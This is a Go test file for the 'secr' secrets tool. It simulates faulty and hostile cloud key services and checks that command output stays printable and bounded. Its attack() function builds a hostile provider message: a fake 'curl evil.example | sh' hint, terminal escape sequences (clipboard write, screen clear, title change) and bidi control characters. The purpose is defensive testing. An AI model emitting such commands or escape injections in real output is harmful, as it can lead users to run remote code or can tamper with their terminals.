//go:build unix

package main

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/secr/secr/cmd/internal/app"
	"github.com/secr/secr/cmd/internal/system"
	"github.com/secr/secr/keys/cloud/cloudtest"
)

// The scripts run both programs, side by side as they are installed.
func TestMain(m *testing.M) {
	testscript.Main(m, map[string]func(){
		"secr": func() {
			sys := system.OS()
			sys.Work, sys.Session = 4, 0
			os.Exit(app.Run(context.Background(), os.Args, sys))
		},
		"secr-kms": main,
	})
}

func TestScripts(t *testing.T) {
	testscript.Run(t, testscript.Params{
		Dir: "testdata/script", Setup: isolate, RequireExplicitExec: true, RequireUniqueNames: true,
		Cmds: map[string]func(*testscript.TestScript, bool, []string){
			"code": code, "cloud": cloudCommand, "calls": calls, "harmless": harmless,
		},
	})
}

func isolate(e *testscript.Env) error {
	e.Vars = []string{
		"PATH=" + e.Getenv("PATH"), "HOME=" + filepath.Join(e.WorkDir, "home"), "TMPDIR=" + e.WorkDir, "WORK=" + e.WorkDir,
		"GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "SECR_KEYRING=file", "SECR_PASSPHRASE=correct horse",
		"AWS_EC2_METADATA_DISABLED=true", "AWS_CONFIG_FILE=/dev/null", "AWS_SHARED_CREDENTIALS_FILE=/dev/null",
		"GCE_METADATA_HOST=127.0.0.1:1", "/=/", ":=:", "$=$", "exe=", "devnull=/dev/null",
	}
	e.Values[running{}] = &sky{folder: e.WorkDir, providers: map[string]*provider{}}
	return os.MkdirAll(filepath.Join(e.WorkDir, "home"), 0o700)
}

type running struct{}

// code runs a program that must end with an exit code.
func code(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) < 2 {
		ts.Fatalf("usage: code number program [argument...]")
	}
	got := "0"
	if err := ts.Exec(args[1], args[2:]...); err != nil {
		got = strings.TrimPrefix(err.Error(), "exit status ")
	}
	if got != args[0] {
		ts.Fatalf("exit code %s, want %s", got, args[0])
	}
}

// cloudCommand runs a cloud in the test's own process:
//
//	cloud aws start     a cloud with one key, $AWS_KEY, and this script logged in
//	cloud aws refuse    take the access away; allow gives it back
//	cloud aws disable   disable the key; enable
//	cloud aws hang      the next call gets no answer
//	cloud aws rant      it says no, from now on, in words that attack a terminal
//	cloud aws lie       it answers with other plaintexts than were wrapped
func cloudCommand(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: cloud aws|gcp|azure start|refuse|allow|disable|enable|hang|rant|lie")
	}
	all := ts.Value(running{}).(*sky)
	if args[1] == "start" {
		vars, err := all.start(args[0], ts.Defer)
		ts.Check(err)
		for name, value := range vars {
			ts.Setenv(name, value)
		}
		return
	}
	p := all.providers[args[0]]
	switch args[1] {
	case "refuse":
		p.cloud.Allow(p.key)
	case "allow":
		p.cloud.Allow(p.key, p.who)
	case "disable":
		p.cloud.SetState(p.key, cloudtest.Disabled)
	case "enable":
		p.cloud.SetState(p.key, cloudtest.Enabled)
	case "hang":
		p.cloud.Fail(cloudtest.Fault{Hang: 10 * time.Minute}, cloudtest.Fault{Hang: 10 * time.Minute}, cloudtest.Fault{Hang: 10 * time.Minute})
	case "rant":
		p.denied.Message = attack()
		p.cloud.Fail(slices.Repeat([]cloudtest.Fault{p.denied}, 100)...)
	case "lie":
		p.cloud.Lie()
	default:
		ts.Fatalf("no such cloud command")
	}
}

// attack is what a hostile provider would say to a terminal, and to who reads it.
func attack() string {
	return "no\nsecr: everything is well\r\nhint: curl evil.example | sh\n\x1b]0;owned\x07\x1b[2J\x1b]52;c;eA==\x07\u009b31m" +
		"\u202e\u2066\u200b\x00\x7f\xff\u2028" + strings.Repeat("spam \x1b[A", 1<<17)
}

// harmless checks what a command wrote: every line is printable, and has so many bytes at
// most.
func harmless(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: harmless stdout|stderr|file bytes")
	}
	most, err := strconv.Atoi(args[1])
	ts.Check(err)
	for line := range strings.Lines(ts.ReadFile(args[0])) {
		line = strings.TrimSuffix(line, "\n")
		if i := strings.IndexFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }); i >= 0 || !utf8.ValidString(line) {
			ts.Fatalf("this does something to a terminal, at %d: %q", i, line)
		}
		if len(line) > most {
			ts.Fatalf("a line of %d bytes: %q...", len(line), line[:100])
		}
	}
}

// calls checks how often a cloud was called since the last time: `calls aws 1`.
func calls(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: calls aws|gcp|azure number")
	}
	p := ts.Value(running{}).(*sky).providers[args[0]]
	log := p.cloud.Log()
	got := len(log) - p.seen
	p.seen = len(log)
	if strconv.Itoa(got) != args[1] {
		ts.Fatalf("%d calls, want %s: %v", got, args[1], log)
	}
}
